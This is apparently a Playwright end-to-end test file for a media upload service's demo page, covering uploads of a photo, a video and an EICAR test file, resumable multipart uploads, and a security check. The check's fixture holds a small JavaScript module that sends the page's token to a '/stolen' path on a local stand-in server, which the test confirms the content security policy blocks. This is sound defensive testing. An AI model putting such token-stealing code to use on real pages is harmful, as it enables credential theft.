"""The demo page in a real browser (Debian's chromium, driven by Playwright), served by the
API, against the S3 server (an origin of its own, so the store's CORS is real) and a
worker; and the page refusing a stranger's code."""

from __future__ import annotations

import contextlib
import functools
import http.server
import json
import shutil
import threading
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from mediagate.auth.tokens import issue_token
from mediagate.config import Settings, load_settings
from mediagate.db import media_rows as repo
from mediagate.storage.setup import setup_storage
from tests.support import daemons, media
from tests.support.api import Tenant
from tests.support.environment import make_env
from tests.support.worker_process import WorkerProcess

if TYPE_CHECKING:
    from playwright.async_api import ConsoleMessage, Request, WebSocket

CHROMIUM = shutil.which("chromium")
ARTIFACTS = Path(__file__).resolve().parents[2] / "build" / "e2e"
# Without the background-networking flags chromium keeps calling home, which a closed
# network refuses many times over.
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
FINAL = ("COMPLETED", "REJECTED", "SCAN_FAILED", "ERROR")
MIB = 1024 * 1024

pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="chromium is not installed (./scripts/test installs it)"
)


# A server on another loopback address, with a client module of its own that sends the
# token it is given home: the demo page must never run it.
STRANGER_CLIENT = """
export function createClient({ token }) {
  fetch(new URL("/stolen?token=" + token, import.meta.url))
  return { uploadAll: async () => [] }
}
"""


class _Recording(http.server.SimpleHTTPRequestHandler):
    requests: list[str]

    def log_message(self, *_args: Any) -> None:
        type(self).requests.append(self.path)


@pytest.fixture(scope="module")
def stranger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    root = tmp_path_factory.mktemp("stranger")
    (root / "client").mkdir()
    (root / "client" / "mediagate.js").write_text(STRANGER_CLIENT)

    class Handler(_Recording):
        requests: list[str] = []  # noqa: RUF012 - one server's, read by the test

    handler = Handler
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.2", 0), functools.partial(handler, directory=str(root))
    )
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.2:{server.server_address[1]}", handler.requests
    server.shutdown()


@pytest.fixture(scope="module")
def api_port() -> int:
    return daemons.free_port()


@pytest.fixture(scope="module")
def browser_env(
    database_url: str, s3_endpoint: str, env: dict[str, str], api_port: int
) -> dict[str, str]:
    """A bucket that allows the page's origin (the API's), and an API serving the page."""
    return make_env(
        database_url,
        s3_endpoint,
        CORS_ALLOWED_ORIGINS=f"http://127.0.0.1:{api_port}",
        DEMO_PAGE="true",
        CLAMAV_PORT=env["CLAMAV_PORT"],
        JWT_SECRET=env["JWT_SECRET"],
    )


@pytest.fixture(scope="module")
async def stack(
    browser_env: dict[str, str], database: None, clamd: daemons.Clamd, api_port: int
) -> AsyncIterator[tuple[daemons.ServedApi, Settings]]:
    settings = load_settings(browser_env)
    setup_storage(settings, bucket_events=False, require_tls=False)
    worker = WorkerProcess(browser_env)
    await worker.start(settings)
    try:
        with daemons.serve_api(browser_env, "--workers", "1", port=api_port) as api:
            yield api, settings
    finally:
        worker.stop()


def _files(directory: Path) -> list[Path]:
    photo = directory / "landscape.jpg"
    photo.write_bytes(media.fixture("landscape_4.jpg"))
    video = media.make_video(directory / "clip.mp4", seconds=1)
    infected = directory / "eicar.jpg"
    infected.write_bytes(media.eicar())
    return [photo, video, infected]


async def test_the_demo_page_uploads_a_photo_a_video_and_a_virus(
    stack: tuple[daemons.ServedApi, Settings],
    settings: Settings,
    tenant: Tenant,
    tmp_path: Path,
) -> None:
    from playwright.async_api import async_playwright

    api, _ = stack
    token = issue_token(settings, tenant.principal, 600)
    address = f"{api.url}/demo#token={token}&session={tenant.session_id}"
    console_errors: list[str] = []
    graphql_posts: list[str] = []
    frames: list[dict[str, Any]] = []
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = await browser.new_page()

            def console(message: ConsoleMessage) -> None:
                if message.type == "error":
                    console_errors.append(message.text)

            def graphql_post(request: Request) -> None:
                if request.url.endswith("/graphql") and request.method == "POST":
                    graphql_posts.append(request.post_data or "")

            def frames_of(socket: WebSocket) -> None:
                socket.on("framereceived", lambda frame: frames.append(json.loads(frame)))

            page.on("console", console)
            page.on("pageerror", lambda error: console_errors.append(str(error)))
            page.on("request", graphql_post)
            page.on("websocket", frames_of)
            await page.goto(address)
            await page.wait_for_selector("body[data-ready]", state="attached")
            await page.set_input_files("#picker", [str(path) for path in _files(tmp_path)])
            await page.wait_for_function(
                f"""() => {{
                    const badges = [...document.querySelectorAll("#files .status")]
                    return badges.length === 3 &&
                        badges.every((badge) => {json.dumps(FINAL)}.includes(badge.textContent))
                }}""",
                timeout=180_000,
            )
            await page.wait_for_function(
                "() => [...document.querySelectorAll('#files img')].every((i) => i.complete)"
            )
            rows = await page.eval_on_selector_all(
                "#files li",
                """(items) => items.map((item) => ({
                    file: item.dataset.file,
                    status: item.querySelector('.status').textContent,
                    progressEvents: Number(item.dataset.progressEvents),
                    imageWidth: item.querySelector('img')?.naturalWidth ?? null,
                    reason: item.querySelector('.reason')?.textContent ?? null,
                }))""",
            )
            ARTIFACTS.mkdir(parents=True, exist_ok=True)
            await page.screenshot(path=str(ARTIFACTS / "demo.png"), full_page=True)
        finally:
            await browser.close()

    by_file = {row["file"]: row for row in rows}
    assert by_file["landscape.jpg"]["status"] == "COMPLETED", by_file
    assert by_file["landscape.jpg"]["imageWidth"] > 0
    assert by_file["clip.mp4"]["status"] == "COMPLETED", by_file
    assert by_file["clip.mp4"]["imageWidth"] > 0  # the poster frame
    assert by_file["eicar.jpg"]["status"] == "REJECTED", by_file
    assert "virus" in by_file["eicar.jpg"]["reason"].lower()
    assert all(row["progressEvents"] > 0 for row in rows)
    assert console_errors == []
    # Statuses came by subscription: frames pushed each final state; no media() polling.
    pushed = {
        frame["payload"]["data"]["mediaUpdated"]["status"]
        for frame in frames
        if frame.get("type") == "next"
    }
    assert {"COMPLETED", "REJECTED"} <= pushed
    assert not [post for post in graphql_posts if "media(id" in post]
    assert sum("confirmUpload" in post for post in graphql_posts) == 3
    completed = await repo.list_session_media(tenant.session_id, None)
    assert sorted(record.status.value for record in completed) == [
        "COMPLETED",
        "COMPLETED",
        "REJECTED",
    ]


async def test_a_large_upload_resumes_after_a_page_reload(  # noqa: PLR0915 - one browser script
    stack: tuple[daemons.ServedApi, Settings],
    settings: Settings,
    tenant: Tenant,
    tmp_path: Path,
) -> None:
    """The first page sends part 1 of 3, then is reloaded while parts 2 and 3 are on the
    wire; the user picks the same file again, and only parts 2 and 3 are sent."""
    from playwright.async_api import Route, async_playwright

    api, _ = stack
    token = issue_token(settings, tenant.principal, 600)
    address = f"{api.url}/demo#token={token}&session={tenant.session_id}&multipartThreshold={MIB}"
    video = media.padded_video(tmp_path / "walkaround.mp4", 40 * MIB)
    parts_sent: list[list[str]] = [[]]  # per page load
    graphql_posts: list[str] = []
    held: list[Route] = []

    async def hold(route: Route) -> None:
        held.append(route)  # never answered: the page goes away first

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = await browser.new_page()

            def part_sent(request: Request) -> None:
                if "partNumber=" in request.url:
                    parts_sent[-1].append(request.url)

            page.on("requestfinished", part_sent)
            await page.route("**/*partNumber=2*", hold)
            await page.route("**/*partNumber=3*", hold)
            first_part = page.wait_for_event(
                "requestfinished", lambda r: "partNumber=1" in r.url and r.method == "PUT"
            )
            await page.goto(address)
            await page.wait_for_selector("body[data-ready]", state="attached")
            await page.set_input_files("#picker", str(video))
            await first_part

            parts_sent.append([])
            await page.reload()
            # The held parts died with the first page: aborted, they can never be let
            # through late (as lifting the route would do).
            for route in held:
                with contextlib.suppress(Exception):
                    await route.abort()
            await page.unroute("**/*partNumber=2*")
            await page.unroute("**/*partNumber=3*")
            await page.wait_for_selector("body[data-ready]", state="attached")

            def graphql_post(request: Request) -> None:
                if request.url.endswith("/graphql"):
                    graphql_posts.append(request.post_data or "")

            page.on("request", graphql_post)
            await page.set_input_files("#picker", str(video))
            await page.wait_for_function(
                f"""() => {{
                    const badge = document.querySelector("#files .status")
                    return badge && {json.dumps(FINAL)}.includes(badge.textContent)
                }}""",
                timeout=180_000,
            )
            status = await page.text_content("#files .status")
        finally:
            await browser.close()

    assert status == "COMPLETED"
    first, second = parts_sent
    assert [url for url in first if "partNumber=1" in url], first
    assert sorted(_part_number(url) for url in second) == [2, 3], second
    assert sum("uploadedParts" in post for post in graphql_posts) == 1
    assert not [post for post in graphql_posts if "startMultipartUpload" in post]
    (record,) = await repo.list_session_media(tenant.session_id, None)
    assert record.status.value == "COMPLETED" and record.upload_id is not None


def _part_number(url: str) -> int:
    return int(url.split("partNumber=", 1)[1].split("&", 1)[0])


async def test_the_demo_page_runs_no_strangers_code_and_keeps_the_token_out_of_the_address(
    stack: tuple[daemons.ServedApi, Settings],
    stranger: tuple[str, list[str]],
    settings: Settings,
    tenant: Tenant,
) -> None:
    """The attack of old: an endpoint elsewhere whose client module steals the token."""
    from playwright.async_api import async_playwright

    api, _ = stack
    elsewhere, requests_elsewhere = stranger
    token = issue_token(settings, tenant.principal, 600)
    address = (
        f"{api.url}/demo?endpoint={elsewhere}/graphql#token={token}&session={tenant.session_id}"
    )
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = await browser.new_page()
            response = await page.goto(address)
            assert response is not None
            await page.wait_for_selector("body[data-ready]", state="attached")
            shown_address = page.url
            # Code injected into the page may not fetch a script from elsewhere either.
            blocked = await page.evaluate(
                """(source) => new Promise((resolve) => {
                    document.addEventListener(
                        "securitypolicyviolation", (event) => resolve(event.blockedURI)
                    )
                    const script = document.createElement("script")
                    script.type = "module"
                    script.src = source
                    document.head.append(script)
                })""",
                f"{elsewhere}/client/mediagate.js",
            )
            headers = await response.all_headers()
        finally:
            await browser.close()

    assert token not in shown_address and "#" not in shown_address
    assert blocked == f"{elsewhere}/client/mediagate.js"
    assert "script-src 'self'" in headers["content-security-policy"]
    assert "default-src 'none'" in headers["content-security-policy"]
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-content-type-options"] == "nosniff"
    assert requests_elsewhere == []
